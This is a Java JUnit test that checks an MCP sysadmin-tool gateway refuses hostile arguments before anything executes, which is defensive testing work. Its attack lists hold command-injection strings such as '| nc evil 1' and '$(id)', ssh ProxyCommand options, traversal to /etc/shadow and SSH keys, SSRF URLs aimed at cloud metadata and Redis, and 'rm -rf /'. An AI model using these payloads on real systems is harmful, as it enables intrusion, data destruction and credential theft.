package io.itmcp.gateway.tools;

import static org.assertj.core.api.Assertions.assertThat;

import io.itmcp.api.v1alpha1.RemoteArguments;
import io.itmcp.api.v1alpha1.ToolName;
import io.itmcp.gateway.runtime.ProgressListener;
import io.itmcp.gateway.ssh.SshKeyDirectory;
import io.itmcp.gateway.testing.TestPolicies;
import io.itmcp.policy.EffectivePolicy;
import io.itmcp.policy.PolicyRefusedException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile calls across all the tools. Each goes through the whole path a call takes (plan, then the
 * runner with a sandbox that records execs): every one must be refused with ToolArgumentException
 * or PolicyRefusedException, and the sandbox must have seen nothing.
 */
class HostileCallsTest {

  @TempDir static Path keys;
  static Map<ToolName, ToolDefinition> tools;

  static final EffectivePolicy POLICY =
      TestPolicies.builder()
          .hosts("db.example.com", "127.0.0.1", "10.0.0.0/24", "firewall.local:22")
          .dnsServers("192.0.2.53")
          .directories("/var/log", "/srv/data")
          .remoteCommands("uname -a", "cat /etc/hostname")
          .remoteCommandRule("show interface", RemoteArguments.ANY)
          .sshUsers(Map.of("db.example.com", "dbadmin"))
          .build();

  record Hostile(ToolName tool, String label, Map<String, Object> args, EffectivePolicy policy) {}

  @BeforeAll
  static void tools() throws IOException {
    Files.writeString(keys.resolve("id_ed25519"), "not a real key\n");
    Files.writeString(keys.resolve("known_hosts"), "");
    tools =
        ToolCatalog.all(SshKeyDirectory.mountedSecret(keys), TestPolicies.NO_LOOKUPS).stream()
            .collect(Collectors.toMap(ToolDefinition::name, Function.identity()));
  }

  /** Valid arguments per tool; each hostile case replaces or adds one field. */
  static final Map<ToolName, Map<String, Object>> VALID = new LinkedHashMap<>();

  static {
    VALID.put(
        ToolName.SSH, Map.of("target", "firewall.local", "user", "admin", "command", "uname -a"));
    VALID.put(ToolName.PING, Map.of("target", "127.0.0.1"));
    VALID.put(ToolName.NSLOOKUP, Map.of("target", "db.example.com"));
    VALID.put(ToolName.TELNET, Map.of("target", "127.0.0.1", "port", 80));
    VALID.put(ToolName.DIG, Map.of("target", "db.example.com"));
    VALID.put(ToolName.TCPDUMP, Map.of("interface", "lo"));
    VALID.put(ToolName.PS, Map.of());
    VALID.put(ToolName.CAT, Map.of("file_path", "/var/log/syslog"));
    VALID.put(ToolName.TOP, Map.of());
    VALID.put(ToolName.GREP, Map.of("pattern", "error", "file_path", "/var/log/syslog"));
    VALID.put(ToolName.HEAD, Map.of("file_path", "/var/log/syslog"));
    VALID.put(ToolName.TAIL, Map.of("file_path", "/var/log/syslog"));
    VALID.put(ToolName.HTTP_CHECK, Map.of("url", "http://127.0.0.1/"));
    VALID.put(ToolName.TRACEROUTE, Map.of("target", "127.0.0.1"));
    VALID.put(ToolName.TLS_CHECK, Map.of("target", "db.example.com", "port", 443));
  }

  static final List<String> HOST_ATTACKS =
      List.of(
          "127.0.0.1; id",
          "127.0.0.1 && id",
          "127.0.0.1 | nc evil 1",
          "$(id)",
          "`id`",
          "127.0.0.1\nid",
          "127.0.0.1\u0000evil",
          "-oProxyCommand=id",
          "--help",
          "-c",
          "127.0.0.1 -c 100",
          "0x7f.0.0.1",
          "0177.0.0.1",
          "2130706433",
          "127.1",
          "evil.com",
          "db.example.com.evil.com",
          "db.example.com@evil.com",
          "http://db.example.com",
          "%31%32%37.0.0.1",
          "db.example.com\u202e",
          "db\u200b.example.com",
          " 127.0.0.1",
          "127.0.0.1 ",
          "",
          "x".repeat(5000),
          "../../etc/passwd",
          "*",
          "::ffff:10.9.9.9",
          "10.0.1.1",
          "db.example.com\t",
          "\u0430pple.com");
  static final List<String> PATH_ATTACKS =
      List.of(
          "/etc/passwd",
          "/var/log/../../etc/passwd",
          "var/log/syslog",
          "/var/log/%2e%2e/%2e%2e/etc/shadow",
          "/var/log2/x",
          "/var/log\u0000/x",
          "-/var/log/x",
          "~/x",
          "/var/log/x\n/etc/passwd",
          "\\var\\log\\x",
          "/var/log/..",
          "file:///var/log/x",
          "/var/log/./../x",
          "/srv/data/../../root/.ssh/id_rsa",
          "/",
          "/var/log/\u202etxt.exe",
          "-n",
          "x".repeat(5000));
  static final List<String> URL_ATTACKS =
      List.of(
          "http://127.0.0.1#@evil.com/",
          "http://evil.com#@127.0.0.1/",
          "http://127.0.0.1\\@evil.com/",
          "http://evil.com\\@127.0.0.1/",
          "http://127.0.0.1:80@evil.com/",
          "http://user:pw@127.0.0.1/",
          "http://0x7f.1/",
          "http://0x7f000001/",
          "http://2130706433/",
          "http://127.1/",
          "http://0177.0.0.1/",
          "http://127.0.0.1.nip.io/",
          "http://localhost/",
          "http://[::1]/",
          "http://0.0.0.0/",
          "http://169.254.169.254/latest/meta-data/",
          "http://[fe80::1%25eth0]/",
          "http://127%2e0.0.1/",
          "http://127.0.0.1%2f@evil.com/",
          "http://127\u30020\u30020\u30021/",
          "file:///etc/passwd",
          "gopher://127.0.0.1:6379/_FLUSHALL",
          "dict://127.0.0.1:11211/stats",
          "ftp://127.0.0.1/",
          "ldap://127.0.0.1/",
          "telnet://127.0.0.1:23/",
          "http://127.0.0.1/{1..9}",
          "http://127.0.0.1/[1-9]",
          "-K/etc/passwd",
          "--config=/etc/passwd",
          "http://127.0.0.1/ -o /tmp/x",
          "http://127.0.0.1/\r\nX-Injected: 1",
          "http://127.0.0.1:0/",
          "http://127.0.0.1:65536/",
          "https://firewall.local/",
          "http://firewall.local/",
          "http://10.0.1.1/",
          "http:127.0.0.1/",
          "//127.0.0.1/",
          "127.0.0.1",
          "http://127.0.0.1/caf\u00e9",
          "http://127.0.0.1/%zz");
  static final List<Object> NOT_A_STRING =
      List.of(42, true, List.of("127.0.0.1"), Map.of("a", "b"), 1.5);
  // A string that is exactly a decimal integer is accepted (LLM clients send "count": "2"); these
  // are not.
  static final List<Object> NOT_AN_INTEGER =
      List.of(
          " 4",
          "04",
          "+4",
          "4.0",
          "0x4",
          "4;id",
          "\uff14",
          true,
          List.of(4),
          Map.of("n", 4),
          4.5,
          Double.NaN,
          1e300,
          Long.MAX_VALUE);

  static List<Hostile> cases() {
    List<Hostile> out = new ArrayList<>();
    // Host-like string arguments of the network tools.
    for (ToolName t :
        List.of(
            ToolName.SSH,
            ToolName.PING,
            ToolName.NSLOOKUP,
            ToolName.TELNET,
            ToolName.DIG,
            ToolName.TRACEROUTE,
            ToolName.TLS_CHECK)) {
      for (String attack : HOST_ATTACKS) {
        out.add(with(t, "target=" + attack, "target", attack));
      }
    }
    // http_check: the host attacks inside a URL, and the URL tricks of its own.
    for (String attack : HOST_ATTACKS) {
      out.add(with(ToolName.HTTP_CHECK, "url host=" + attack, "url", "http://" + attack + "/"));
    }
    for (String url : URL_ATTACKS) {
      out.add(with(ToolName.HTTP_CHECK, "url=" + url, "url", url));
    }
    for (String method :
        List.of(
            "POST",
            "PUT",
            "DELETE",
            "CONNECT",
            "TRACE",
            "OPTIONS",
            "PATCH",
            "GET /",
            "HEAD\r\n",
            "")) {
      out.add(with(ToolName.HTTP_CHECK, "method=" + method, "method", method));
    }
    out.add(with(ToolName.HTTP_CHECK, "insecure is not offered", "insecure", true));
    out.add(with(ToolName.HTTP_CHECK, "follow_redirects as string", "follow_redirects", "true"));
    out.add(with(ToolName.HTTP_CHECK, "follow_redirects as number", "follow_redirects", 1));
    out.add(
        with(
            ToolName.HTTP_CHECK, "headers are not offered", "headers", Map.of("Host", "evil.com")));
    // tls_check's SNI name is a host argument too (it is never contacted, but must be an allowed
    // name).
    for (String attack : HOST_ATTACKS) {
      out.add(with(ToolName.TLS_CHECK, "servername=" + attack, "servername", attack));
    }
    // File paths of the four file tools.
    for (ToolName t : List.of(ToolName.CAT, ToolName.GREP, ToolName.HEAD, ToolName.TAIL)) {
      for (String attack : PATH_ATTACKS) {
        out.add(with(t, "file_path=" + attack, "file_path", attack));
      }
    }
    // Type confusion on every string and integer argument.
    for (Map.Entry<ToolName, List<String>> e :
        Map.ofEntries(
                Map.entry(ToolName.SSH, List.of("target", "user", "command")),
                Map.entry(ToolName.PING, List.of("target")),
                Map.entry(ToolName.CAT, List.of("file_path")),
                Map.entry(ToolName.GREP, List.of("pattern", "file_path")),
                Map.entry(ToolName.TCPDUMP, List.of("interface", "filter")),
                Map.entry(ToolName.PS, List.of("filter", "options")),
                Map.entry(ToolName.DIG, List.of("server", "type")),
                Map.entry(ToolName.NSLOOKUP, List.of("server", "type")),
                Map.entry(ToolName.TRACEROUTE, List.of("target", "protocol")),
                Map.entry(ToolName.TLS_CHECK, List.of("target", "servername")),
                Map.entry(ToolName.HTTP_CHECK, List.of("url", "method")))
            .entrySet()) {
      for (String field : e.getValue()) {
        for (Object v : NOT_A_STRING) {
          out.add(with(e.getKey(), field + " as " + v, field, v));
        }
      }
    }
    Map<ToolName, Map<String, List<Object>>> ranges = new LinkedHashMap<>();
    ranges.put(ToolName.PING, Map.of("count", List.of(0, 21, -1, 1_000_000)));
    ranges.put(ToolName.SSH, Map.of("port", List.of(0, 65536, -22)));
    ranges.put(ToolName.TELNET, Map.of("port", List.of(0, 65536), "timeout", List.of(0, 31)));
    ranges.put(ToolName.TCPDUMP, Map.of("count", List.of(0, 1001), "timeout", List.of(0, 61)));
    ranges.put(ToolName.TOP, Map.of("iterations", List.of(0, 6), "delay", List.of(0, 6)));
    ranges.put(ToolName.GREP, Map.of("context", List.of(-1, 11)));
    ranges.put(ToolName.HEAD, Map.of("lines", List.of(0, 10001)));
    ranges.put(ToolName.TAIL, Map.of("lines", List.of(0, 10001)));
    ranges.put(
        ToolName.HTTP_CHECK, Map.of("timeout", List.of(0, 31), "max_bytes", List.of(-1, 65537)));
    ranges.put(ToolName.TRACEROUTE, Map.of("max_hops", List.of(0, 31, -1, 255)));
    ranges.put(ToolName.TLS_CHECK, Map.of("port", List.of(0, 65536, -443)));
    for (var e : ranges.entrySet()) {
      for (var field : e.getValue().entrySet()) {
        for (Object v : field.getValue()) {
          out.add(with(e.getKey(), field.getKey() + "=" + v, field.getKey(), v));
        }
        for (Object v : NOT_AN_INTEGER) {
          out.add(with(e.getKey(), field.getKey() + " as " + v, field.getKey(), v));
        }
      }
    }
    // Booleans that are not JSON booleans.
    for (String flag :
        List.of("ignore_case", "invert_match", "line_numbers", "count_only", "fixed_strings")) {
      out.add(with(ToolName.GREP, flag + " as string", flag, "true"));
      out.add(with(ToolName.GREP, flag + " as number", flag, 1));
    }
    out.add(with(ToolName.TAIL, "follow as string", "follow", "true"));
    out.add(with(ToolName.TAIL, "follow as list", "follow", List.of(true)));
    // ssh: users, commands, ports.
    for (String user :
        List.of(
            "root;id",
            "-oProxyCommand=id",
            "ro ot",
            "root@evil",
            "u".repeat(40),
            "$(id)",
            "user\u0000",
            "1root",
            ".hidden",
            "root\n")) {
      out.add(with(ToolName.SSH, "user=" + user, "user", user));
    }
    for (String cmd :
        List.of(
            "uname -a; id",
            "uname -a && id",
            "uname $(id)",
            "cat /etc/shadow",
            "uname -a | nc evil 1",
            "rm -rf /",
            "uname\n-a",
            "show interface `id`",
            "show interfaces",
            "uname -a *",
            "uname ~root",
            "cat /etc/hostname /etc/shadow",
            "cat /etc/hostname > /tmp/x",
            "cat /etc/hostname .ssh/id_ed25519",
            "cat /etc/hostname id_ed25519",
            "uname -a -n",
            "show interface -x",
            "show interface status --all",
            "uname -a\u0000",
            "UNAME -a",
            "uname  -a 'x'",
            "show interface \"x\"",
            "uname -a #",
            "-oProxyCommand=id",
            "sh -c id",
            "x".repeat(5000))) {
      out.add(with(ToolName.SSH, "command=" + cmd, "command", cmd));
    }
    out.add(with(ToolName.SSH, "port not allowed for host", "port", 2222));
    out.add(
        with(
            ToolName.SSH,
            "user differs from ssh.users",
            Map.of("target", "db.example.com", "user", "root", "command", "uname -a")));
    // DNS: types, servers, options.
    for (ToolName t : List.of(ToolName.DIG, ToolName.NSLOOKUP)) {
      for (String type : List.of("ANY", "AXFR", "IXFR", "A; id", "-x", "A A")) {
        out.add(with(t, "type=" + type, "type", type));
      }
      for (String server :
          List.of(
              "8.8.8.8",
              "evil.com",
              "192.0.2.53#5353",
              "192.0.2.53 -port=1",
              "-port=53",
              "192.0.2.053",
              "192.0.2.53\n",
              "[192.0.2.53]")) {
        out.add(with(t, "server=" + server, "server", server));
      }
    }
    for (Object opts :
        List.of(
            List.of("+trace"),
            List.of("+nssearch"),
            List.of("-f/etc/passwd"),
            List.of("+short", "+short"),
            "+short",
            List.of(1),
            List.of("+short +tcp"),
            List.of("@8.8.8.8"),
            List.of("+time=1"),
            List.of("-k", "/etc/key"),
            List.of("+subnet=1.2.3.0/24"),
            Map.of("short", true))) {
      out.add(with(ToolName.DIG, "options=" + opts, "options", opts));
    }
    // tcpdump: interface and filter.
    for (String iface :
        List.of(
            "eth0; id",
            "-w/tmp/x",
            "i".repeat(16),
            "eth0 -w /tmp/x",
            "../x",
            "eth/0",
            "-D",
            "eth0\n")) {
      out.add(with(ToolName.TCPDUMP, "interface=" + iface, "interface", iface));
    }
    for (String filter :
        List.of(
            "host 8.8.8.8",
            "port 22 and host evil.com",
            "ether[0] = 1",
            "tcp[13] & 2 != 0",
            "-w /tmp/x",
            "host 127.0.0.1 -w /tmp/x",
            "port 99999",
            "( host 127.0.0.1",
            "host 127.0.0.1 )",
            "host",
            "net 0.0.0.0/0",
            "net 10.0.0.0/8",
            "portrange 1-100",
            "host 127.0.0.1 && icmp",
            "greater 100",
            "vlan",
            "host $(id)",
            "port ssh",
            "src 8.8.8.8",
            "1",
            "host 127.0.0.1 and 22",
            "net evil.com",
            "host port",
            "icmp or dst 10.0.1.5")) {
      out.add(with(ToolName.TCPDUMP, "filter=" + filter, "filter", filter));
    }
    // traceroute: only the protocols the sandbox can run unprivileged; only port-less entries.
    for (String protocol :
        List.of(
            "tcp", "TCP ", "udp;id", "-T", "raw", "udplite", "dccp", "tcpconn", "icmp -T", "")) {
      out.add(with(ToolName.TRACEROUTE, "protocol=" + protocol, "protocol", protocol));
    }
    out.add(with(ToolName.TRACEROUTE, "host allowed only with a port", "target", "firewall.local"));
    out.add(
        with(
            ToolName.TRACEROUTE,
            "the tcp method's port",
            Map.of("target", "127.0.0.1", "port", 443)));
    out.add(
        with(
            ToolName.TRACEROUTE,
            "a hop count as option",
            Map.of("target", "127.0.0.1", "max_hops", "-m 255")));
    // tls_check: the port must be allowed for the host; SNI must be an allowed name, never an
    // address.
    out.add(
        with(
            ToolName.TLS_CHECK,
            "port not allowed for host",
            Map.of("target", "firewall.local", "port", 443)));
    out.add(
        with(
            ToolName.TLS_CHECK,
            "default port not allowed for host",
            Map.of("target", "firewall.local")));
    for (String sni :
        List.of(
            "127.0.0.1",
            "10.0.0.7",
            "::1",
            "db.example.com:443",
            "evil.com",
            "-connect",
            "a.b,evil.com",
            "db.example.com -connect evil.com:443",
            "*.example.com")) {
      out.add(with(ToolName.TLS_CHECK, "servername=" + sni, "servername", sni));
    }
    out.add(with(ToolName.TLS_CHECK, "insecure is not offered", "insecure", true));
    out.add(with(ToolName.TLS_CHECK, "a CA file of the caller's", "cafile", "/etc/passwd"));
    // ps and grep strings.
    for (String opt : List.of("axjf", "aux; id", "-e", "e f", "AUX --forest")) {
      out.add(with(ToolName.PS, "options=" + opt, "options", opt));
    }
    out.add(with(ToolName.PS, "filter with newline", "filter", "a\nb"));
    out.add(with(ToolName.PS, "filter too long", "filter", "x".repeat(257)));
    out.add(with(ToolName.GREP, "pattern with NUL", "pattern", "a\u0000b"));
    out.add(with(ToolName.GREP, "pattern with newline", "pattern", "a\nb"));
    out.add(with(ToolName.GREP, "pattern too long", "pattern", "x".repeat(1025)));
    out.add(with(ToolName.GREP, "empty pattern", "pattern", ""));
    // Unknown fields and missing required arguments, for every tool.
    for (ToolName t : VALID.keySet()) {
      out.add(with(t, "unknown field", "extra", "x"));
      out.add(with(t, "original free-text options", "raw_options", "-f /etc/passwd"));
      out.add(with(t, "__proto__ field", "__proto__", Map.of("admin", true)));
      for (String required : required(t)) {
        Map<String, Object> missing = new HashMap<>(VALID.get(t));
        missing.remove(required);
        out.add(with(t, "missing " + required, missing));
        Map<String, Object> nulled = new HashMap<>(VALID.get(t));
        nulled.put(required, null);
        out.add(with(t, "null " + required, nulled));
      }
    }
    // Disabled tools: a policy that enables only cat, and the default tool set (no ssh, no
    // tcpdump).
    EffectivePolicy catOnly =
        TestPolicies.builder()
            .tools(ToolName.CAT)
            .hosts("127.0.0.1", "db.example.com", "firewall.local:22")
            .directories("/var/log")
            .remoteCommands("uname -a")
            .build();
    for (ToolName t : VALID.keySet()) {
      if (t != ToolName.CAT) {
        out.add(new Hostile(t, "disabled by policy", VALID.get(t), catOnly));
      }
    }
    EffectivePolicy defaults =
        TestPolicies.builder()
            .tools(ToolName.defaults().toArray(ToolName[]::new))
            .hosts("firewall.local:22")
            .remoteCommands("uname -a")
            .build();
    out.add(new Hostile(ToolName.SSH, "ssh is off by default", VALID.get(ToolName.SSH), defaults));
    out.add(
        new Hostile(
            ToolName.TCPDUMP, "tcpdump is off by default", VALID.get(ToolName.TCPDUMP), defaults));
    out.add(
        new Hostile(
            ToolName.HTTP_CHECK,
            "http_check is off by default",
            VALID.get(ToolName.HTTP_CHECK),
            TestPolicies.builder()
                .tools(ToolName.defaults().toArray(ToolName[]::new))
                .hosts("127.0.0.1")
                .build()));
    EffectivePolicy portless =
        TestPolicies.builder()
            .tools(ToolName.defaults().toArray(ToolName[]::new))
            .hosts("127.0.0.1", "db.example.com")
            .build();
    out.add(
        new Hostile(
            ToolName.TRACEROUTE,
            "traceroute is off unless listed",
            VALID.get(ToolName.TRACEROUTE),
            portless));
    out.add(
        new Hostile(
            ToolName.TLS_CHECK,
            "tls_check is off unless listed",
            VALID.get(ToolName.TLS_CHECK),
            portless));
    return out;
  }

  private static List<String> required(ToolName t) {
    @SuppressWarnings("unchecked")
    List<String> required = (List<String>) tools.get(t).inputSchema().get("required");
    return required;
  }

  private static Hostile with(ToolName tool, String label, String field, Object value) {
    Map<String, Object> args = new HashMap<>(VALID.get(tool));
    args.put(field, value);
    return new Hostile(tool, label, args, POLICY);
  }

  private static Hostile with(ToolName tool, String label, Map<String, Object> args) {
    return new Hostile(tool, label, args, POLICY);
  }

  @Test
  void everyHostileCallIsRefusedBeforeAnythingRuns() {
    List<Hostile> cases = cases();
    RecordingSandbox sandbox = new RecordingSandbox();
    List<String> failures = new ArrayList<>();
    Map<ToolName, Integer> perTool = new LinkedHashMap<>();
    for (Hostile h : cases) {
      perTool.merge(h.tool(), 1, Integer::sum);
      String outcome = attempt(tools.get(h.tool()), h, sandbox);
      if (outcome != null) {
        failures.add(h.tool().mcpName() + " [" + printable(h.label()) + "]: " + outcome);
      }
    }
    System.out.println(
        "hostile calls: " + cases.size() + " across " + perTool.size() + " tools " + perTool);
    assertThat(failures).as("hostile calls that were not refused cleanly").isEmpty();
    assertThat(sandbox.execs).as("argvs that reached the sandbox").isEmpty();
    assertThat(perTool.keySet()).containsExactlyInAnyOrder(ToolName.values());
    assertThat(cases.size()).isGreaterThanOrEqualTo(200);
  }

  @Test
  void theValidBaselinesAreAccepted() {
    for (var e : VALID.entrySet()) {
      assertThat(tools.get(e.getKey()).plan(e.getValue(), POLICY).argv()).isNotEmpty();
    }
  }

  /** Null when refused properly; otherwise what went wrong. */
  private static String attempt(ToolDefinition tool, Hostile h, RecordingSandbox sandbox) {
    try {
      ToolPlan plan = tool.plan(h.args(), h.policy());
      ToolCallRunner.run(sandbox, plan, h.policy(), ProgressListener.NONE);
      return "was NOT refused; argv " + plan.argv();
    } catch (ToolArgumentException | PolicyRefusedException e) {
      String message = e.getMessage();
      if (message == null
          || message.isBlank()
          || message.contains("Exception")
          || message.contains("\n")) {
        return "refused with an unhelpful message: " + message;
      }
      return null;
    } catch (AssertionError e) {
      return e.getMessage();
    } catch (RuntimeException | InterruptedException e) {
      return "failed with " + e;
    }
  }

  private static String printable(String s) {
    String cut = s.length() > 60 ? s.substring(0, 60) + "..." : s;
    return cut.chars()
        .mapToObj(
            c ->
                c < 0x20 || c == 0x7f || Character.getType(c) == Character.FORMAT
                    ? String.format("\\u%04x", c)
                    : String.valueOf((char) c))
        .collect(Collectors.joining());
  }
}
